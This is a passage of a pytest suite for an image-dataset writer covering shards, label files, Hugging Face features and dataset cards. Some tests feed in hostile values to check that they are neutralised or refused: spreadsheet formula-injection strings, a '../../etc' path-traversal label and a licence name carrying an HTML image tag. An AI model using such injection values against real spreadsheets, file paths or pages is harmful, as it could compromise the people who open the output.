         "http_status": 0, "title": HYPERLINK, "author": "+1", "caption": "\t=1"}],
        schema=REJECT_SCHEMA)
    fs, root = storage.open_fs(local.uri)
    assert write_rejects(fs, root, [cut]) == 2
    rows = list(csv.DictReader(io.StringIO(local.read("rejects.csv").decode(), newline="")))
    assert rows[0]["url"] == "http://127.0.0.1/bad/0" and rows[0]["detail"] == "detail 0"
    assert {k: rows[1][k] for k in ("url", "label", "detail", "title", "author", "caption")} \
        == {"url": "'-2+3", "label": "-cat", "detail": "'@SUM(1)", "title": "'" + HYPERLINK,
            "author": "'+1", "caption": "'\t=1"}
    assert pq.read_table(io.BytesIO(local.read("rejects.parquet"))).equals(cut)


def test_a_per_image_csv_or_txt_label_file_holds_no_spreadsheet_formula():
    row = {"id": "i1", "label": "-cat", "split": "train", "url": "http://h/1.jpg",
           "page_url": "http://h/p", "license": "@cc", "author": HYPERLINK, "width": 2,
           "height": 3}
    info = image_label_info(row, "i1.jpg", 0)
    got = next(csv.DictReader(io.StringIO(render_image_label("csv", info, 1).decode())))
    assert (got["label"], got["license"], got["author"]) == ("-cat", "'@cc", "'" + HYPERLINK)
    assert json.loads(render_image_label("json", info, 1))["author"] == HYPERLINK
    assert render_image_label("txt", info, 1).decode() == "-cat\t0\thttp://h/1.jpg\t'@cc\n"


def test_rejects_that_disagree_with_the_counts_are_not_published(local):
    job = local.job()
    write_all(job, make_rows())
    with pytest.raises(StorageError, match="not marking"):
        job.publish(rejects=make_rejects()[:2])
    assert not is_complete(local.uri)


def test_missing_bucket_is_a_storage_error(moto_s3):
    job = Target("s3://no-such-bucket/ds", {"endpoint_url": moto_s3}, None, "").job()
    with pytest.raises(StorageError, match="no-such-bucket"):
        job.publisher.check()
    with pytest.raises(StorageError, match="cannot write shard"):
        job.shard(make_rows()[:2], 0)
    fs, _ = storage.open_fs("s3://pix", {"endpoint_url": moto_s3})
    assert not fs.exists("no-such-bucket")


@pytest.mark.parametrize("shuffle_seed", [1, 2])
def test_same_rows_give_the_same_bytes(tmp_path, shuffle_seed):
    rows = make_rows()
    shuffled = rows[:]
    random.Random(shuffle_seed).shuffle(shuffled)
    outs = []
    for name, batch in (("a", rows), ("b", shuffled)):
        root = str(tmp_path / name)
        job = Target(root, None, pafs.LocalFileSystem(), root).job(f"job-{name}")
        job.shard(batch, 3)
        outs.append(tmp_path / name)
    for rel in ("data/train-00003.parquet", "data/test-00003.parquet",
                "webdataset/train-00003.tar"):
        assert (outs[0] / rel).read_bytes() == (outs[1] / rel).read_bytes(), rel


def test_parquet_only_output_and_label_format_subset(local):
    job = local.job(formats=["parquet"], label_formats=["csv", "txt"])
    manifest = write_all(job, make_rows())
    assert {m["path"] for m in manifest} == {
        f"data/{r['split']}-{i // 6:05d}.parquet" for i, r in enumerate(make_rows())}
    job.publish()
    files = local.files()
    assert {"labels.csv", "labels.txt"} <= files
    assert not {"labels.json", "labels.yaml"} & files
    assert not any(p.startswith(("imagefolder/", "webdataset/")) for p in files)


def test_writer_pickles_and_takes_arrow_tables(local):
    job = local.job()
    job.writer = pickle.loads(pickle.dumps(job.writer))
    rows = [r for r in make_rows() if r["split"] == "train"]
    table = pa.Table.from_pylist(rows, schema=ROW_SCHEMA)
    big = table.cast(pa.schema([pa.field(f.name, pa.large_binary() if f.name == "image"
                                         else f.type) for f in ROW_SCHEMA]))
    written = job.writer.write(big.drop_columns(["clip_score"]), "train", 0, job.journal)
    assert sorted(written["id"].to_pylist()) == sorted(r["id"] for r in rows)
    with pytest.raises(ValueError, match="at least one row"):
        job.writer.write([], "train", 1, job.journal)
    columns = {name: np.array(table[name].to_pylist(), dtype=object)
               for name in ("id", "label", "split", "image", "format")}
    assert job.writer.write(columns, "train", 2, job.journal).num_rows == len(rows)
    assert job.writer.write(table.to_pandas(), "train", 3, job.journal).num_rows == len(rows)
    assert read_dataset(local.uri).num_rows == 3 * len(rows)


def test_bad_rows_are_refused(local):
    job = local.job()
    row = make_rows()[0]
    with pytest.raises(ValueError, match="cannot be a directory path"):
        job.shard([{**row, "label": "mammals/../../etc"}], 0)
    with pytest.raises(ValueError, match="not one of the writer's labels"):
        job.shard([{**row, "label": "bird"}], 0)
    with pytest.raises(ValueError, match="non-empty 'split'"):
        job.writer.write([{**row, "split": ""}], "", 0, job.journal)
    with pytest.raises(ValueError, match="holds rows of splits"):
        job.writer.write([row], "elsewhere", 0, job.journal)
    with pytest.raises(ValueError, match="job_id"):
        DatasetPublisher(OutputSpec(), local.uri, "../x")


def test_read_dataset_of_nothing_says_so(tmp_path):
    with pytest.raises(StorageError, match="no dataset at"):
        read_dataset(str(tmp_path / "empty"))


def test_hugging_face_datasets_loads_the_splits(local):
    datasets = pytest.importorskip("datasets")
    if not hasattr(datasets, "load_dataset"):
        # The demo writes ./datasets/<name>; run from the repo root, that folder imports as
        # an empty namespace package named "datasets".
        pytest.skip(f"'datasets' is the folder {list(datasets.__path__)}, not Hugging Face "
                    "datasets (pip install datasets)")
    job = local.job()
    write_all(job, make_rows())
    job.publish()
    cache = str(Path(local.uri).parent / "hf-cache")
    loaded = datasets.load_dataset("parquet", data_dir=f"{local.uri}/data", cache_dir=cache)
    assert sum(len(loaded[s]) for s in loaded) == 12
    assert {"train", "validation", "test"} == set(loaded)
    by_card = datasets.load_dataset(local.uri, cache_dir=cache)
    assert {s: len(by_card[s]) for s in by_card} == {s: len(loaded[s]) for s in loaded}
    for dataset in (loaded["train"], by_card["train"]):
        assert dataset.features["image"] == datasets.Image()
        assert dataset.features["label"] == datasets.ClassLabel(names=LABELS)
        row = dataset[0]
        assert row["image"].size == (row["width"], row["height"])
        assert dataset.features["label"].int2str(row["label"]) == row["label_name"]


def test_shards_declare_their_hugging_face_features(local):
    """The schema metadata says what each column is (an Image, a ClassLabel named as
    classes.txt) in a form whose types match the stored columns, so none is dropped."""
    datasets = pytest.importorskip("datasets")
    job = local.job()
    write_all(job, make_rows())
    job.publish()
    shard = sorted(Path(local.uri, "data").glob("*.parquet"))[0]
    schema = pq.read_schema(shard)
    features = datasets.Features.from_arrow_schema(schema)
    assert features["image"] == datasets.Image()
    assert features["label"] == datasets.ClassLabel(
        names=Path(local.uri, "classes.txt").read_text().splitlines())
    declared = datasets.Features.from_dict(
        json.loads(schema.metadata[b"huggingface"])["info"]["features"])
    assert list(declared) == schema.names
    for field in schema:
        assert declared.arrow_schema.field(field.name).type == field.type, field.name


def test_the_card_reads_well():
    """Dates as ISO dates, the licences seen as card ids (not 'other' when all are known),
    the rejects columns as written."""
    stats = {**make_stats(), "started": 1796161913.92, "finished": 1796161973.5}
    card = render_card("pets", "", stats, "name: pets\n", licenses={"CC BY-SA 4.0": 3,
                                                                     "CC-BY-4.0": 2})
    header = yaml.safe_load(card.split("---\n")[1])
    assert header["license"] == ["cc-by-4.0", "cc-by-sa-4.0"]
    assert "| started | 2026-12-01T21:51:53+00:00 |" in card
    assert "| finished | 2026-12-01T21:52:53+00:00 |" in card
    assert "1796161913" not in card
    assert "| CC BY-SA 4.0 | `cc-by-sa-4.0` | 3 |" in card
    assert ("`rejects.parquet`, `rejects.csv`: one row per rejected candidate: key, url, label, "
            "query, engine, stage, reason, detail, duplicate_of, http_status") in card
    one = render_card("pets", "", stats, "", licenses={"cc0": 4})
    assert yaml.safe_load(one.split("---\n")[1])["license"] == "cc0-1.0"
    mixed = render_card("pets", "", stats, "", licenses={"CC BY 4.0": 1, "": 2, "Custom": 1})
    assert yaml.safe_load(mixed.split("---\n")[1])["license"] == ["cc-by-4.0", "other",
                                                                   "unknown"]
    # A licence name is its uploader's text: no tag or link of theirs is live in the card.
    hostile = render_card("pets", "", stats, "", licenses={
        "<img src=https://e/p.gif> [docs](https://e/x) a|b & c": 1})
    assert ("| &lt;img src=https://e/p.gif&gt; \\[docs\\](https://e/x) a\\|b &amp; c | "
            "`other` | 1 |") in hostile
    assert "<img" not in hostile


def test_per_image_label_files_and_level_columns(target):
    rows = make_rows()
    by_id = {r["id"]: r for r in rows}
    job = target.job(image_label_files=["txt", "json", "csv", "yaml"])
    manifest = write_all(job, rows)
    job.publish()
    files = target.files()
    classes = json.loads(target.read("classes.json"))
    for m in manifest:
        stem, row = m["path"].rsplit(".", 1)[0], by_id[m["id"]]
        assert {f"{stem}.{fmt}" for fmt in ("txt", "json", "csv", "yaml")} <= files
        info = json.loads(target.read(f"{stem}.json"))
        assert info == yaml.safe_load(target.read(f"{stem}.yaml"))
        assert (info["label"], info["levels"], info["class_index"], info["url"]) == \
            (row["label"], row["label"].split("/"), classes[row["label"]], row["url"])
        assert target.read(f"{stem}.txt").decode() == \
            f"{row['label']}\t{classes[row['label']]}\t{row['url']}\tcc-by\n"
        as_csv = next(csv.DictReader(io.StringIO(target.read(f"{stem}.csv").decode())))
        assert (as_csv["level_0"], as_csv["level_1"]) == tuple(
            (row["label"].split("/") + [""])[:2])
    entries = list(csv.DictReader(io.StringIO(target.read("labels.csv").decode())))
    assert {(e["label"], e["level_0"], e["level_1"]) for e in entries} == {
        ("cat", "cat", ""), ("mammals/dog", "mammals", "dog"),
        ("mammals/whale", "mammals", "whale")}
    table = read_dataset(target.uri, target.options)
    assert table["label_levels"].to_pylist() == \
        [label.split("/") for label in table["label_name"].to_pylist()]


NAMES = ["train", "val-2", ".", "..", "a/b", "a\\b", "", "a\nb", "a\tb", "a\0b", "_journal"]


@pytest.mark.parametrize("name", NAMES)
def test_split_names_the_writer_refuses_are_refused_by_the_spec_first(local, name):
    """A split name that fails at write time (after downloading) fails at parse time."""
    try:
        OutputSpec(splits={name: 1.0})
    except ValidationError:
        return
    rows = make_rows()[:2]
    for row in rows:
        row["split"] = name
    job = Target(local.uri, None, local.fs, local.root).job(splits={name: 1.0})
    manifest = job.shard(rows, 0)
    assert {m["split"] for m in manifest} == {name}


@pytest.mark.parametrize("label", ["cat", "big cat", "a\nb", "a\tb", "a\0b", "a\rb", "a\x85b",
                                   "a\u2028b"])
def test_labels_the_spec_accepts_are_one_line_each_in_classes_txt(local, label):
    """A label that would fail the writer or break classes.txt (line i = class i) fails at
    parse time instead."""
    try:
        parse_spec({"name": "pets", "classes": [label],
                    "sources": [{"engine": "sandbox", "url": "http://127.0.0.1:1"}]})
    except SpecError:
        return
    rows = make_rows()[:1]
    rows[0]["label"] = label
    job = local.job(labels=[label])
    job.shard(rows, 0)
    stats = make_stats()
    stats.update(accepted=1, rejected=0, candidates=1)
    job.publish(stats=stats, rejects=[])
    lines = Path(local.root, "classes.txt").read_text(encoding="utf-8").splitlines()
    assert lines == [label]
